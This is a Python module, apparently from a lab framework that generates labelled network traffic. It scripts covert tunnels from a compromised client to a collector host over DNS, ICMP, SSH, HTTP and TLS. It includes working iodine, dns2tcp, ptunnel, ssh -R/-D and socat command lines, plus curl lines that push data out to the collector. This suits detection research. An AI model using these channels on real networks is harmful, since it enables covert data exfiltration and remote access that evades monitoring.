"""Ways out of the home network inside something that looks harmless."""

from attacks.aim import collector_of
from attacks.attack import SCRATCH, Campaign, Rule, attack
from attacks.collector import TUNNEL_DOMAIN, listener, name_server, ssh_options, ssh_server, through_resolver
from attacks.steps import program, script, script_text, tool

# A network that no lab has at home or outside.
_BEYOND = "100.64.77"


def _client(chance, world):
    return world.compromised if chance.random() < 0.5 else chance.choice(world.clients)


def _campaign(client, end, steps, rules, files=None, least=60):
    return Campaign(tuple(steps), tuple(rules), (client.ip,), (end,), files or {}, least)


def _fetches(chance, url, count, longest, options="", longest_pause=2.0):
    """Uses a tunnel: some pages come, some things go."""
    lines = []
    for _ in range(count):
        if chance.random() < 0.4:
            size = chance.randint(200, longest)
            lines.append(
                f"head -c {size} /dev/urandom | curl -s -S -m 25 -o /dev/null {options} --data-binary @- {url}/up"
            )
        else:
            lines.append(f"curl -s -S -m 25 -o /dev/null {options} {url}/down")
        lines.append(f"sleep {round(chance.uniform(0, longest_pause), 2)}")
    return script_text(*lines, "exit 0")


@attack("tunnel", "DNSTunnel", "iodine", "dns")
def iodine_tunnel(chance, world):
    """A network through the resolver: pings and pages pass inside names."""
    return _iodine(chance, world, uses=chance.randint(2, 5), longest=3000, seconds=46)


@attack("tunnel", "DNSTunnel", "iodine", "dns-slow", seconds=2400, slow=True)
def slow_iodine_tunnel(chance, world):
    """Kept open for long and used now and then."""
    return _iodine(
        chance, world, uses=chance.randint(20, 60), longest=2000, seconds=chance.randint(500, 1500), pause=40
    )


def _iodine(chance, world, uses, longest, seconds, pause=1):
    client, collector, infra = _client(chance, world), world["collector"], world["infra"]
    domain = f"{chance.choice(('t', 'x', 'ns7'))}.{TUNNEL_DOMAIN}"
    password = f"{chance.getrandbits(32):08x}"
    serve = ("iodined", "-f", "-c", "-P", password, "-l", collector.ip, f"{_BEYOND}.1", domain)
    kind = ("-T", chance.choice(("NULL", "TXT", "CNAME", "MX", "SRV"))) if chance.random() < 0.7 else ()
    more = ("-M", chance.choice((120, 200, 255)), "-I", chance.choice((1, 2, 4)))
    ask = ("iodine", "-f", "-r", "-P", password, *kind, *more, infra.ip, domain)
    use = [f"ping -q -c 3 -W 4 {_BEYOND}.1"]
    text = script_text(*use) + _fetches(chance, f"http://{_BEYOND}.1:8000", uses, longest, longest_pause=pause)
    steps = (
        tool(collector, *serve, background=True, good=(0, None)),
        listener(world, "http", "0.0.0.0", 8000, "--answer", "200-3000"),
        script(client, "use.sh", pause=1, seconds=seconds + 11, good=(0, None)),
    )
    files = {"use.sh": _while_open(ask, 6, text)}
    return _campaign(client, collector.ip, steps, through_resolver(world, client, 0), files, 80)


def _while_open(ask, ready, text):
    """
    Ends the near end of a tunnel before the far end: a resolver asks again for seconds what nobody answers, and would
    do so after the attack.
    """
    return script_text(f"{' '.join(map(str, ask))} & near=$!", f"sleep {ready}") + text.replace(
        "exit 0\n", script_text("kill $near", "sleep 2", "exit 0")
    )


@attack("tunnel", "DNSTunnel", "dns-tunnel", "dns")
def home_made_dns_tunnel(chance, world):
    """Bytes go out in names and come back in texts, at a pace that does not stand out."""
    return _home_made_dns(chance, world, chance.randint(3_000, 25_000), round(chance.uniform(4, 40), 1), 50)


@attack("tunnel", "DNSTunnel", "dns-tunnel", "dns-slow", seconds=2400, slow=True)
def slow_home_made_dns_tunnel(chance, world):
    return _home_made_dns(chance, world, 100_000, round(chance.uniform(0.1, 0.5), 2), chance.randint(500, 1500))


def _home_made_dns(chance, world, size, rate, seconds):
    client = _client(chance, world)
    seed = chance.randrange(1 << 30)
    words = ("--resolver", world["infra"].ip, "--domain", f"{chance.choice(('d', 'c', 'img'))}.{TUNNEL_DOMAIN}")
    words += ("--bytes", size, "--rate", rate, "--kinds", chance.choice(("TXT", "TXT,A", "NULL", "CNAME,MX", "A")))
    words += ("--alphabet", chance.choice(("base32", "hex")), "--longest", chance.randint(40, 180))
    steps = (
        name_server(world, 0, seed),
        program(client, "dns_tunnel", *words, "--seconds", seconds, "--seed", seed, pause=1, seconds=seconds + 6),
    )
    return _campaign(client, world["collector"].ip, steps, through_resolver(world, client, 0), least=60)


@attack("tunnel", "ICMPTunnel", "ptunnel", "icmp")
def ptunnel_tunnel(chance, world):
    client, collector = _client(chance, world), world["collector"]
    end = collector.ip  # from which it answers, whichever was asked
    password = ("-x", f"{chance.getrandbits(32):08x}") if chance.random() < 0.5 else ()
    text = _fetches(chance, "http://127.0.0.1:8000", chance.randint(4, 12), 60_000)
    steps = (
        tool(collector, "ptunnel", *password, background=True, good=(0, None)),
        listener(world, "http", end, 8080, "--answer", "500-60000"),
        tool(
            client,
            *("ptunnel", "-p", end, "-lp", 8000, "-da", end, "-dp", 8080, *password),
            background=True,
            pause=1,
            good=(0, None),
        ),
        script(client, "use.sh", pause=1, seconds=52, good=(0, None)),
    )
    return _campaign(client, end, steps, (Rule(client.ip, end, proto="icmp"),), {"use.sh": text})


@attack("tunnel", "ICMPTunnel", "icmp-tunnel", "icmp")
def home_made_icmp_tunnel(chance, world):
    """Echo requests of one size, their payload ciphered, and answers with something else in them."""
    client, collector = _client(chance, world), world["collector"]
    end = collector.ip  # from which it answers, whichever was asked
    seed = chance.randrange(1 << 30)
    words = (
        "--target",
        end,
        "--size",
        chance.choice((48, 56, 120, 500, 1200)),
        "--rate",
        round(chance.uniform(3, 60), 1),
    )
    words += ("--seconds", chance.randint(20, 50), "--seed", seed)
    steps = (
        program(collector, "icmp_tunnel", "--serve", "--seed", seed, background=True, good=(0, None)),
        program(client, "icmp_tunnel", *words, pause=1, seconds=56),
    )
    return _campaign(client, end, steps, (Rule(client.ip, end, proto="icmp"),))


@attack("tunnel", "SSHTunnel", "ssh", "ssh-socks")
def ssh_socks_tunnel(chance, world):
    """What the client fetches comes through an SSH connection to the collector."""
    client = _client(chance, world)
    end, port = collector_of(chance, world), chance.choice((22, 443, 53, 2222))
    text = _fetches(chance, "http://127.0.0.1:8000", chance.randint(4, 14), 200_000, "--socks5-hostname 127.0.0.1:1080")
    steps = (
        ssh_server(world, end, port),
        listener(world, "http", "127.0.0.1", 8000, "--answer", "500-200000"),
        tool(
            client,
            *("ssh", *ssh_options(port), "-N", "-D", "127.0.0.1:1080", f"root@{end}"),
            background=True,
            pause=2,
            good=(0, None),
        ),
        script(client, "use.sh", pause=1.5, seconds=50, good=(0, None)),
    )
    return _campaign(client, end, steps, (Rule(client.ip, end, str(port), "tcp"),), {"use.sh": text})


@attack("tunnel", "SSHTunnel", "ssh", "ssh-reverse")
def ssh_reverse_tunnel(chance, world):
    """The collector reaches a server inside through a connection that the taken-over client made."""
    client, collector, web = world.compromised, world["collector"], world["web"]
    end, port = collector_of(chance, world), chance.choice((22, 443, 2222))
    text = _fetches(chance, "http://127.0.0.1:9000/app", chance.randint(4, 14), 20_000)
    steps = (
        ssh_server(world, end, port),
        tool(
            client,
            *("ssh", *ssh_options(port), "-N", "-R", f"127.0.0.1:9000:{web.ip}:80", f"root@{end}"),
            background=True,
            pause=2,
            good=(0, None),
        ),
        script(collector, "use.sh", pause=1.5, seconds=50, good=(0, None)),
    )
    rules = (Rule(client.ip, end, str(port), "tcp"), Rule(client.ip, web.ip, "80", "tcp"))
    return Campaign(steps, rules, (client.ip,), (end, web.ip), {"use.sh": text}, 60)


@attack("tunnel", "HTTPTunnel", "http-tunnel", "http-poll")
def http_polling_tunnel(chance, world):
    """Requests that wait for what there is to say, one after the other."""
    return _http(chance, world, chance.randint(25, 48), chance.choice((0.2, 0.5, 1, 2, 4)))


@attack("tunnel", "HTTPTunnel", "http-tunnel", "http-poll-slow", seconds=2400, slow=True)
def slow_http_polling_tunnel(chance, world):
    return _http(chance, world, chance.randint(500, 1500), chance.choice((5, 10, 20)))


def _http(chance, world, seconds, hold):
    client, collector = _client(chance, world), world["collector"]
    end, tls = collector_of(chance, world), chance.random() < 0.4
    port = chance.choice((443, 8443) if tls else (80, 8080, 3128))
    seed = chance.randrange(1 << 30)
    common = ("--port", port, "--hold", hold, "--seed", seed, *(("--tls",) if tls else ()))
    words = ("--target", end, "--seconds", seconds, "--longest", chance.choice((400, 2000, 20_000)), *common)
    words += ("--page", chance.choice(("/stream", "/socket.io/?t=1", "/tunnel.aspx", "/connect")))
    steps = (
        program(
            collector, "http_tunnel", "--bind", end, "--scratch", SCRATCH, *common, background=True, good=(0, None)
        ),
        program(client, "http_tunnel", *words, pause=2, seconds=seconds + 8),
    )
    return _campaign(client, end, steps, (Rule(client.ip, end, str(port), "tcp"),))


@attack("tunnel", "DNSTunnel", "dns2tcp", "dns")
def dns2tcp_tunnel(chance, world):
    """A connection inside texts."""
    client, collector, infra = _client(chance, world), world["collector"], world["infra"]
    domain = f"{chance.choice(('w', 'z'))}.{TUNNEL_DOMAIN}"
    key = f"{chance.getrandbits(32):08x}"
    configuration = script_text(
        *(f"listen = {collector.ip}", "port = 53", "user = root", f"chroot = {SCRATCH}", f"domain = {domain}"),
        *(f"key = {key}", "resources = web:127.0.0.1:8000"),
    )
    text = _fetches(chance, "http://127.0.0.1:8888", chance.randint(2, 5), 3000)
    ask = (
        "dns2tcpc",
        "-z",
        domain,
        "-k",
        key,
        "-r",
        "web",
        "-l",
        "8888",
        "-T",
        chance.choice(("TXT", "KEY")),
        infra.ip,
    )
    serve = ("dns2tcpd", "-F", "-d", "1", "-f", f"{SCRATCH}/server.conf")
    steps = (
        tool(collector, *serve, background=True, good=(0, None)),
        listener(world, "http", "127.0.0.1", 8000, "--answer", "200-3000"),
        script(client, "use.sh", pause=1.5, seconds=50, good=(0, None)),
    )
    files = {"server.conf": configuration, "use.sh": _while_open(ask, 2, text)}
    return _campaign(client, collector.ip, steps, through_resolver(world, client, 0), files, 60)


@attack("tunnel", "TLSTunnel", "socat", "tls")
def socat_tls_tunnel(chance, world):
    """Any connection of the client goes inside TLS to the collector's port 443."""
    client, collector = _client(chance, world), world["collector"]
    end, port = collector_of(chance, world), chance.choice((443, 853, 993))
    key = f"cd {SCRATCH} && openssl req -x509 -newkey rsa:2048 -nodes -days 9 -subj /CN=mail.example -keyout k -out c"
    serve = f"{key} && cat k c > both && exec socat OPENSSL-LISTEN:{port},bind={end},fork,reuseaddr,cert=both,verify=0"
    text = _fetches(chance, "http://127.0.0.1:8888", chance.randint(4, 14), 100_000)
    steps = (
        tool(collector, "sh", "-c", f"{serve} TCP:127.0.0.1:8000", background=True, good=(0, None)),
        listener(world, "http", "127.0.0.1", 8000, "--answer", "500-100000"),
        tool(
            client,
            *("socat", "TCP-LISTEN:8888,bind=127.0.0.1,fork,reuseaddr", f"OPENSSL:{end}:{port},verify=0"),
            background=True,
            pause=2,
            good=(0, None),
        ),
        script(client, "use.sh", pause=1, seconds=50, good=(0, None)),
    )
    return _campaign(client, end, steps, (Rule(client.ip, end, str(port), "tcp"),), {"use.sh": text})
